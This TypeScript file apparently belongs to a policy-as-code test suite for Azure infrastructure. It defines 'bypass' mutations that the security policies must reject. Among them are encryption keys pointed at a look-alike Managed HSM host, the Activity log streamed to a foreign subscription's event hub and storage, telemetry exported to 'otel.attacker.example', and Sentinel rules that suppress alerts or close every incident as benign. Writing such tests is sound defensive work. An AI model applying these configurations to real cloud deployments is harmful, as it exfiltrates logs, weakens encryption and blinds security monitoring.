/**
 * Bypass cases, round 2: where things point, not only that they exist. The key URI a data store
 * encrypts with names the stack's vault by name but another host; the subscription's Activity
 * log (a diagnostic setting at subscription scope) streams to someone else; the Container Apps
 * environment's OpenTelemetry agent exports the apps' logs and traces; a Container Apps add-on
 * holds data outside every data-store policy; an analytics rule stays enabled but stops looking
 * after each alert.
 */
import type { Context, Mutation, Variation } from "../mutationCatalog";
import { T } from "../mutationCatalog";

const PROD: Mutation["stacks"] = ["prod"];
const ACTIVITY = "azure-native:monitor:SubscriptionDiagnosticSetting";
const RULE = "azure-native:securityinsights:ScheduledAlertRule";
const ENV = "azure-native:app:ManagedEnvironment";
/** A subscription the stacks never deploy into. */
const FOREIGN_SUB = "5e0f0000-0000-4000-8000-00000000beef";
const foreign = (path: string) =>
  `/subscriptions/${FOREIGN_SUB}/resourceGroups/rg-attacker/providers/${path}`;
/** The same resource group name of the other environment, in the same subscription. */
const otherEnv = (c: Context, path: string) =>
  `/subscriptions/${c.subscription}/resourceGroups/rg-sap-${c.stack === "prod" ? "dev" : "prod"}/providers/${path}`;

/**
 * A Managed HSM (`<name>.managedhsm.azure.net`) named like the stack's vault: its own name
 * namespace (Microsoft.KeyVault/checkMhsmNameAvailability), and Storage, PostgreSQL and Managed
 * Redis encrypt with a Managed HSM key through the same key URI properties.
 */
const hsmNamedLikeOurVault = (c: Context) => `https://${c.nameOf(T.vault)}.managedhsm.azure.net`;

export const MUTATIONS: Mutation[] = [
  // Customer-managed keys: the stack's vault and key names on another host (KEY-1, ENC-2)
  {
    id: "storage CMK key in a Managed HSM that shares the stack's vault name",
    stacks: PROD,
    type: T.account,
    set: { "encryption.keyVaultProperties.keyVaultUri": (c: Context) => `${hsmNamedLikeOurVault(c)}/` },
    policy: "customer-managed-keys-rotate",
    control: "KEY-1",
  },
  {
    id: "PostgreSQL CMK key in a Managed HSM that shares the stack's vault name",
    stacks: PROD,
    type: T.pg,
    set: {
      "dataEncryption.primaryKeyURI": (c: Context) => `${hsmNamedLikeOurVault(c)}/keys/key-sap-postgres-prod`,
    },
    policy: "customer-managed-keys-rotate",
    control: "KEY-1",
  },
  {
    id: "Managed Redis CMK key in a Managed HSM that shares the stack's vault name",
    stacks: PROD,
    type: T.redis,
    set: {
      "encryption.customerManagedKeyEncryption.keyEncryptionKeyUrl": (c: Context) =>
        `${hsmNamedLikeOurVault(c)}/keys/key-sap-redis-prod/00000000000000000000000000000001`,
    },
    policy: "customer-managed-keys-rotate",
    control: "KEY-1",
  },

  // A data-plane path without any authorization (IAM-1)
  {
    id: "storage account with NFS 3.0 (requests authorized by network location only, no Entra ID)",
    type: T.account,
    set: { isHnsEnabled: true, isNfsV3Enabled: true },
    policy: "storage-account-entra-only-auth",
    control: "IAM-1",
  },

  // A data store that escapes every data-store policy: a Container Apps add-on (IAM-1, BAK-1)
  {
    id: "a Redis add-on (development-grade, no auth, no backups) in the apps' environment",
    add: {
      type: T.app,
      name: "redis-addon",
      inputs: (c: Context) => ({
        resourceGroupName: c.resourceGroup,
        location: "westeurope",
        containerAppName: "sap-cache",
        environmentId: c.idOf(T.env),
        configuration: { service: { type: "redis" } },
        tags: { environment: c.stack, owner: "platform-team", dataClassification: "confidential" },
      }),
    },
    policy: "container-app-no-dev-services",
    control: "IAM-1",
  },
  {
    id: "the apps bound to a PostgreSQL add-on",
    type: T.app,
    set: {
      "template.serviceBinds": (c: Context) => [
        {
          name: "pg",
          serviceId: `${c.idOf(T.env).split("/providers/")[0]}/providers/Microsoft.App/containerApps/sap-pg`,
        },
      ],
    },
    policy: "container-app-no-dev-services",
    control: "IAM-1",
  },

  // The apps' network: the environment placed in a subnet the stack does not own (NET-1, ENV-1)
  {
    id: "Container Apps environment in the other environment's apps subnet",
    type: ENV,
    set: {
      "vnetConfiguration.infrastructureSubnetId": (c: Context) =>
        otherEnv(c, "Microsoft.Network/virtualNetworks/vnet-sap-platform/subnets/snet-sap-apps"),
    },
    policy: "container-apps-run-in-stack",
    control: "NET-1",
  },
  {
    id: "Container Apps environment in a subnet of a foreign network",
    type: ENV,
    set: {
      "vnetConfiguration.infrastructureSubnetId": () =>
        foreign("Microsoft.Network/virtualNetworks/vnet-attacker/subnets/apps"),
    },
    policy: "container-apps-run-in-stack",
    control: "NET-1",
  },

  {
    id: "the apps and jobs placed in a Container Apps environment of another subscription",
    type: T.app,
    set: {
      environmentId: () => foreign("Microsoft.App/managedEnvironments/cae-open"),
    },
    policy: "container-apps-run-in-stack",
    control: "NET-1",
  },
  {
    id: "the apps placed in the other environment's Container Apps environment (same subscription)",
    type: T.app,
    set: {
      environmentId: (c: Context) => otherEnv(c, "Microsoft.App/managedEnvironments/cae-sap-platform"),
    },
    policy: "container-apps-run-in-stack",
    control: "NET-1",
  },

  // Name resolution handed to someone else's DNS server (NET-1)
  {
    id: "VNet resolving through a DNS server outside Azure (private DNS zones bypassed)",
    type: "azure-native:network:VirtualNetwork",
    set: { "dhcpOptions.dnsServers": ["203.0.113.53"] },
    policy: "private-dns-in-stack",
    control: "NET-1",
  },

  // The subscription's Activity log sent out of the stack (LOG-1, RES-1)
  {
    id: "a second Activity log setting streaming to a foreign event hub",
    add: {
      type: ACTIVITY,
      name: "activity-exfil",
      inputs: () => ({
        name: "activity-to-siem",
        eventHubAuthorizationRuleId: foreign(
          "Microsoft.EventHub/namespaces/ehexfil/authorizationrules/RootManageSharedAccessKey",
        ),
        logs: [{ category: "Administrative", enabled: true }],
      }),
    },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  },
  {
    id: "the Activity log also archived to a storage account in another subscription",
    type: ACTIVITY,
    set: { storageAccountId: () => foreign("Microsoft.Storage/storageAccounts/stexfil") },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  },
  {
    id: "the Activity log also sent to a marketplace partner",
    type: ACTIVITY,
    set: { marketplacePartnerId: () => foreign("Microsoft.Datadog/monitors/dd") },
    policy: "diagnostic-destinations-in-stack",
    control: "LOG-1",
  },

  // The apps' telemetry exported by the environment's OpenTelemetry agent (LOG-1, RES-1)
  {
    id: "environment OpenTelemetry agent exporting logs and traces to an OTLP endpoint outside Azure",
    type: ENV,
    set: {
      openTelemetryConfiguration: {
        destinationsConfiguration: {
          otlpConfigurations: [
            { name: "collector", endpoint: "https://otel.attacker.example:4317", insecure: false },
          ],
        },
        logsConfiguration: { destinations: ["collector"] },
        tracesConfiguration: { destinations: ["collector"] },
      },
    },
    policy: "managed-environment-no-telemetry-export",
    control: "LOG-1",
  },
  {
    id: "environment OpenTelemetry agent exporting to Datadog's US site",
    type: ENV,
    set: {
      openTelemetryConfiguration: {
        destinationsConfiguration: { dataDogConfiguration: { site: "datadoghq.com", key: "dd-api-key" } },
        logsConfiguration: { destinations: ["dataDog"] },
      },
    },
    policy: "managed-environment-no-telemetry-export",
    control: "LOG-1",
  },
  {
    id: "environment sending Dapr telemetry to a foreign Application Insights",
    type: ENV,
    set: {
      daprAIConnectionString:
        "InstrumentationKey=00000000-0000-4000-8000-00000000beef;IngestionEndpoint=https://eastus-8.in.applicationinsights.azure.com/",
    },
    policy: "managed-environment-no-telemetry-export",
    control: "LOG-1",
  },

  // An analytics rule that stays enabled but looks away after each alert (SIEM-1)
  {
    id: "analytics rule suppressed for a day after each alert",
    type: RULE,
    set: { suppressionEnabled: true, suppressionDuration: "PT24H" },
    policy: "sentinel-rule-quality",
    control: "SIEM-1",
  },
  {
    // Not a new rule: prod refuses the type (no policy evaluates it), dev reports it as advisory.
    id: "a Sentinel automation rule closing every new incident as benign",
    stacks: PROD,
    add: {
      type: "azure-native:securityinsights:AutomationRule",
      name: "close-all",
      inputs: (c: Context) => ({
        resourceGroupName: c.resourceGroup,
        workspaceName: c.nameOf(T.workspace),
        automationRuleId: "00000000-0000-4000-8000-00000000c105",
        displayName: "noise reduction",
        order: 1,
        triggeringLogic: { isEnabled: true, triggersOn: "Incidents", triggersWhen: "Created" },
        actions: [
          {
            actionType: "ModifyProperties",
            order: 1,
            actionConfiguration: { status: "Closed", classification: "BenignPositive" },
          },
        ],
      }),
    },
    policy: "azure-resource-type-allowed",
    control: "ENV-1",
  },
];

export const SECURE_VARIATIONS: Variation[] = [
  {
    id: "storage CMK vault URI written in upper case without the trailing slash",
    stacks: PROD,
    type: T.account,
    where: (i) => JSON.stringify(i.encryption ?? {}).includes("keyVaultUri"),
    set: {
      "encryption.keyVaultProperties.keyVaultUri": (c: Context) =>
        `https://${c.nameOf(T.vault)}.vault.azure.net`.toUpperCase().replace("HTTPS", "https"),
    },
  },
  {
    id: "the Activity log also archived to the stack's own storage account (EU)",
    type: ACTIVITY,
    set: { storageAccountId: (c: Context) => c.idOf(T.account) },
  },
];
